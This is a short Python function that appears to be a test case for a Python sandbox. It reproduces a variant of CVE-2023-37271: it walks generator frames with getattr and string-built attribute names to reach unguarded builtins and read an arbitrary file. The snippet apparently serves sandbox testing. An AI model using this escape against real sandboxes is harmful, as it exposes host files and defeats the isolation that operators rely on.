# The same by `getattr`, with names made at run time.
# after: read
# source: CVE-2023-37271 (GHSA-wqc8-x2pr-7jqh)
def attack(path, **_):
    gen = (getattr(getattr(gen, "gi_" + "frame"), "f_" + "back") for _ in [1])
    for frame in gen:
        while frame:
            found = getattr(frame, "f_" + "builtins")
            if "guard:read" not in found:
                return {"text": found["open"](path).read()}
            frame = getattr(frame, "f_" + "back")
